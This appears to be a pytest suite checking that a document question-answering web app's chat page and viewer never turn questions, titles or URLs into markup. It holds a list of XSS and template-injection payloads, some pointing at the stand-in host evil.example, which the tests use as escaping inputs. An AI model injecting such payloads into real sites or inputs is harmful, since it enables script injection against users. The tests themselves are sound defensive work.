"""The chat page and the document viewer without JavaScript: exact, and safe whatever stands in them."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from urllib.parse import quote as percent_encode

import pytest
from fastapi.testclient import TestClient
from selectolax.lexbor import LexborHTMLParser, LexborNode

from bot.api.app import create_app
from bot.engine import Bot, build_index, open_bot
from bot.settings import Settings, load_settings
from bot.types import Passage
from tests.conftest import write_files

BROWSER = {"accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
QUESTION = "How fast may a boat go in the harbour?"

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>here</a>",
    "<form action=//evil.example><input name=q></form>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<!-- a comment that is never closed",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</mark></blockquote></article><h1>Owned</h1>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt> <\u200bb>bold",
    "<marquee>\u202etpircs\u202c</marquee>",
)
#: Of about the same shape, and harmless.
HARMLESS = tuple(f"plain words number {number}" for number in range(len(PAYLOADS)))


def seen(text: str) -> str:
    """Return a payload as a reader sees it: without what cannot be seen."""
    return " ".join(re.sub("[\u0000\u200b\u202c\u202e]", "", text).split())


def document(payload: str) -> str:
    """A Markdown file with a payload as title, publisher and text; a backslash makes every sign stand for itself."""
    text = re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", seen(payload))
    return f"---\ntitle: {json.dumps(payload)}\npublisher: {json.dumps(payload)}\n---\n\n{text}\n"


def client_of(home: pytest.TempPathFactory, payloads: tuple[str, ...]) -> TestClient:
    folder = home.mktemp("pages")
    files = {f"{number:02}.md": document(payload) for number, payload in enumerate(payloads)}
    settings = load_settings(corpus=write_files(folder / "corpus", files), index=folder / "index")
    build_index(settings)
    return TestClient(create_app(lambda: open_bot(settings), settings), headers=BROWSER)


@pytest.fixture(scope="module")
def client(bot: Bot, island: Settings) -> Iterator[TestClient]:
    with TestClient(create_app(lambda: bot, island), headers=BROWSER) as client:
        yield client


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with client_of(tmp_path_factory, PAYLOADS) as client:
        yield client


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with client_of(tmp_path_factory, HARMLESS) as client:
        yield client


def nodes(html: str) -> Iterator[LexborNode]:
    root = LexborHTMLParser(html).root
    assert root is not None
    for node in root.traverse(include_text=False):
        if not (node.tag or "!").startswith(("-", "!")):
            yield node


def elements(html: str) -> list[tuple[str, ...]]:
    """Every element of a page, in order, with the names of its attributes."""
    return [(node.tag or "", *sorted(node.attributes)) for node in nodes(html)]


def text_of(html: str, selector: str) -> str:
    node = LexborHTMLParser(html).css_first(selector)
    assert node is not None, selector
    return node.text()


def assert_links_are_safe(html: str) -> None:
    for node in nodes(html):
        for name, value in node.attributes.items():
            if name in ("href", "src", "action", "formaction"):
                assert re.match(r"/(?!/)|https?://|data:,$", value or ""), value
                assert not (value or "").startswith("http") or node.attributes.get("rel") == "noopener noreferrer"
            assert not name.startswith("on")


# --- a person asks ----------------------------------------------------------------------------------------------------


def test_the_form_leads_to_the_marked_sentence_and_its_source(client: TestClient) -> None:
    start = client.get("/")
    form = LexborHTMLParser(start.text).css_first("form.ask")
    assert form is not None
    assert (form.attributes["method"], form.attributes["action"]) == ("post", "/")
    field = form.css_first("textarea")
    assert field is not None
    assert field.attributes["name"] == "question"
    assert text_of(start.text, f"label[for={field.attributes['id']}]") == "Your question"

    reply = client.post("/", data={"question": QUESTION})
    assert reply.status_code == 200
    assert text_of(reply.text, "h1") == "Answer"
    assert text_of(reply.text, ".asked bdi") == QUESTION
    assert text_of(reply.text, "mark") == "Boats may go at most 5 knots inside the harbour."
    card = text_of(reply.text, "article")
    for part in ("Harbour rules", "Port Office", "Updated 3 February 2025"):
        assert part in card
    links = [node.attributes["href"] for node in LexborHTMLParser(reply.text).css("article:first-of-type .links a")]
    assert links[0] == "/documents/harbour.md?passage=15-95#p15-95"
    assert (links[1] or "").startswith("https://port.example/rules#:~:text=")
    assert text_of(reply.text, "textarea") == "", "ready for the next question"


def test_without_an_answer_the_page_says_so_and_helps_on(client: TestClient) -> None:
    page = client.post("/", data={"question": "Did Zelda win the zorbing championship in Patagonia?"}).text
    assert text_of(page, "h1") == "These documents do not seem to answer this"
    assert {"Zelda", "zorbing", "Patagonia"} <= set(text_of(page, "h1 + p bdi").split(", "))
    button = LexborHTMLParser(page).css_first("button[name=question]")
    assert button is not None
    assert button.attributes["value"] == button.text() == QUESTION
    assert "may not help" in text_of(page, "summary")


@pytest.mark.parametrize(
    ("question", "reason"),
    [
        ("?!", "ask a question with at least one letter or number"),
        ("", "ask a question with at least one letter or number"),
        ("boat " * 201, "a question has at most 1,000 characters, this one has 1,005"),
        ('"></textarea>' * 100, "a question has at most 1,000 characters, this one has 1,300"),
    ],
)
def test_a_refused_question_stays_in_its_field(client: TestClient, question: str, reason: str) -> None:
    reply = client.post("/", data={"question": question})
    assert reply.status_code == 422
    assert reason in text_of(reply.text, "[role=alert]")
    assert text_of(reply.text, "textarea") == question[:1_000]
    field = LexborHTMLParser(reply.text).css_first("textarea")
    assert field is not None
    assert field.attributes["aria-invalid"] == "true"
    assert "refused" in (field.attributes["aria-describedby"] or "")


def test_a_form_without_its_field_is_refused(client: TestClient) -> None:
    assert client.post("/", data={"something": "else"}).status_code == 422
    assert client.post("/").status_code == 422


# --- the viewer -------------------------------------------------------------------------------------------------------


def shown(text: str) -> str:
    """Return a text without white space and without the bullets, which a list draws itself."""
    return re.sub(r"^• |\s", "", text, flags=re.MULTILINE)


def assert_marked(client: TestClient, passage: Passage, link: str) -> None:
    reply = client.get(link)
    assert reply.status_code == 200
    marks = LexborHTMLParser(reply.text).css("mark")
    assert shown("\n".join(mark.text() for mark in marks)) == shown(passage.text)
    place = f"p{passage.start}-{passage.end}"
    assert [mark.attributes.get("id") for mark in marks] == [place, *[None] * (len(marks) - 1)]
    assert len([node for node in nodes(reply.text) if node.attributes.get("id") == place]) == 1


def test_the_viewer_marks_exactly_what_is_cited(shipped: Bot, bot: Bot, island: Settings) -> None:
    for asked in (shipped, bot):
        with TestClient(create_app(lambda asked=asked: asked, island), headers=BROWSER) as client:  # type: ignore[misc]
            links: dict[str, str] = {}
            for document in asked.snapshot.documents.values():
                reply = client.post(
                    "/v1/ask", json={"question": "a1", "top_k": 20, "filters": {"document": [document.id]}}
                )
                links |= {found["id"]: found["citation"]["links"]["viewer"] for found in reply.json()["passages"]}
            assert len(links) == len(asked.snapshot.passages)
            for passage in asked.snapshot.passages:
                assert_marked(client, passage, links[passage.id])


def test_the_viewer_shows_the_whole_document_and_its_record(client: TestClient) -> None:
    page = client.get("/documents/harbour.md").text
    assert not LexborHTMLParser(page).css("mark")
    for part in ("Lights are switched on at dusk.", "Large boats lie at the south pier.", "Port Office"):
        assert part in text_of(page, "main")
    assert text_of(page, "h1") == "Harbour rules"
    assert "3 February 2025" in text_of(page, "dl")
    assert text_of(page, "h2") == "Moorings"


def test_the_viewer_keeps_the_numbers_of_a_list(tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("numbers")
    files = {
        "steps.md": "# Steps\n\nDo this.\n\n3. Call the harbour master.\n4. Wait.\n\nGo back to step 3 if it fails.\n"
    }
    settings = load_settings(corpus=write_files(folder / "corpus", files), index=folder / "index")
    build_index(settings)
    with TestClient(create_app(lambda: open_bot(settings), settings), headers=BROWSER) as client:
        page = client.get("/documents/steps.md").text
    assert LexborHTMLParser(page).css("ol[start='3']") or "3. Call" in text_of(page, "article")


@pytest.mark.parametrize(
    "place", ["", "0-0", "95-15", "0-999999", "-5-3", "a-b", "1" * 5_000, "15-95-7", "<b>", "99999999999-1"]
)
def test_a_place_that_is_none_marks_nothing(client: TestClient, place: str) -> None:
    reply = client.get("/documents/harbour.md", params={"passage": place})
    assert reply.status_code == 200
    assert not LexborHTMLParser(reply.text).css("mark")
    assert elements(reply.text) == elements(client.get("/documents/harbour.md").text)


def test_what_two_documents_say_is_shown_once_with_both_places(tmp_path_factory: pytest.TempPathFactory) -> None:
    home = tmp_path_factory.mktemp("copies")
    text = "The lighthouse keeper lights the lamp at dusk. He puts it out at dawn. In fog the horn sounds each minute."
    files = {f"{name}.md": f"---\ntitle: {name} <i>page</i>\n---\n\n{text}\n" for name in ("first", "second")}
    settings = load_settings(corpus=write_files(home / "corpus", files), index=home / "index")
    build_index(settings)
    with TestClient(create_app(lambda: open_bot(settings), settings)) as client:
        page = client.post("/", data={"question": "When does the keeper light the lamp?"}).text
        [card] = LexborHTMLParser(page).css("article.card")
        titles = [node.text() for node in card.css("bdi") if "page" in node.text()]
        assert sorted(titles) == ["first <i>page</i>", "second <i>page</i>"]
        [other] = [link for link in card.css("a") if link.text().endswith("</i>") and link.css("bdi")]
        assert client.get(other.attributes["href"] or "").status_code == 200


def test_any_file_name_leads_to_its_document(tmp_path_factory: pytest.TempPathFactory) -> None:
    names = "a b|what?|part #2|50% off|a&b=c;d+e|quote'\"<x>|back\\slash|Ünïcødé/日本語|e\u0301|(1)/[2]/@:!$*,"
    files = {f"{name}.txt": f"Boat number {number} is red." for number, name in enumerate(names.split("|"))}
    folder = tmp_path_factory.mktemp("names")
    settings = load_settings(corpus=write_files(folder / "corpus", files), index=folder / "index")
    build_index(settings)
    with TestClient(create_app(lambda: open_bot(settings), settings), headers=BROWSER) as client:
        for number, name in enumerate(files):
            filters = {"document": [name]}
            cited = client.post("/v1/ask", json={"question": "Is it red?", "filters": filters}).json()["passages"][0]
            page = client.get(cited["citation"]["links"]["viewer"]).text
            assert text_of(page, "mark") == f"Boat number {number} is red."


@pytest.mark.parametrize("address", ["/documents/nowhere.md", "/documents/", "/documents/%00", "/nowhere"])
def test_an_unknown_address_is_a_page_that_leads_on(client: TestClient, address: str) -> None:
    reply = client.get(address)
    assert reply.status_code == 404
    assert reply.headers["content-type"] == "text/html; charset=utf-8"
    assert text_of(reply.text, "h1") == "There is no such page"
    assert reply.headers["x-request-id"] in text_of(reply.text, "main")
    assert LexborHTMLParser(reply.text).css("main a[href='/']")


# --- nothing becomes markup -------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def ordinary(harmless: TestClient) -> set[tuple[str, ...]]:
    """Every kind of element that a chat page may hold, as a harmless run shows."""
    questions = (*HARMLESS[:5], "Zorbing in Patagonia?", "?", "number", "x" * 1_001)
    pages = [harmless.post("/", data={"question": question}).text for question in questions]
    headings = {text_of(page, "h1") for page in pages}
    assert {"Answer", "These documents do not seem to answer this", "Ask the documents"} <= headings
    return {element for page in (harmless.get("/").text, *pages) for element in elements(page)}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_question_never_becomes_markup(hostile: TestClient, ordinary: set[tuple[str, ...]], payload: str) -> None:
    reply = hostile.post("/", data={"question": payload})
    assert reply.status_code == 200
    assert set(elements(reply.text)) <= ordinary
    assert text_of(reply.text, ".asked bdi") == seen(payload)
    assert_links_are_safe(reply.text)
    long = payload.replace("\u0000", "") * 200
    refused = hostile.post("/", data={"question": long})
    assert refused.status_code == 422
    assert set(elements(refused.text)) <= ordinary
    assert text_of(refused.text, "textarea") == seen(long)[:1_000]


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_document_never_becomes_markup(hostile: TestClient, harmless: TestClient, number: int) -> None:
    address = f"/documents/{number:02}.md"
    page = hostile.get(address).text
    assert elements(page) == elements(harmless.get(address).text)
    expected = seen(PAYLOADS[number])
    assert text_of(page, "title") == f"{expected} – Signpost"
    assert text_of(page, "h1") == text_of(page, "dd") == text_of(page, "article > p") == expected
    assert_links_are_safe(page)


def test_a_cited_document_never_becomes_markup(hostile: TestClient, ordinary: set[tuple[str, ...]]) -> None:
    quoted = set()
    for payload in PAYLOADS:
        page = hostile.post("/", data={"question": f"What about {seen(payload)}?"}).text
        assert set(elements(page)) <= ordinary
        assert_links_are_safe(page)
        for card in LexborHTMLParser(page).css("article"):
            title, quote = card.css_first("h3"), card.css_first("blockquote")
            assert title is not None
            assert quote is not None
            assert title.text() == quote.text()
            quoted.add(title.text())
    assert quoted <= set(map(seen, PAYLOADS))
    assert len(quoted) > len(PAYLOADS) / 2


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_address_never_becomes_markup(client: TestClient, payload: str) -> None:
    expected = elements(client.get("/documents/nowhere").text)
    reply = client.get(f"/documents/{percent_encode(payload)}", params={"passage": payload})
    assert reply.status_code == 404
    assert elements(reply.text) == expected
    assert payload not in reply.text
